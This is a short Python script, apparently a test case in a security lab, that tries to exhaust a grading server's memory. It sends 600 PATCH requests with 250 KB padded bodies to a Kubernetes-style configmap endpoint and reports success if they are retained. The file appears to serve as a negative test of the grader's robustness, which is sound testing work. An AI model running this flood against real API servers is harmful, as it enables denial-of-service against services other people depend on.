"""Tries to fill the grader's memory with requests that are refused, and remembered.

Lab: 01
Earns: nothing
May not touch: the grader's memory
"""

import http.client

BODY = b" " * 250_000


def attack(client):
    host, _, port = client.connection.server.rpartition("/")[2].partition(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=10)
    try:
        for _ in range(600):
            connection.request("PATCH", f"/api/v1/namespaces/{client.namespace}/configmaps/x", BODY)
            connection.getresponse().read()
    except (OSError, http.client.HTTPException):
        return
    print("GOT", "150 MB of refused requests remembered")
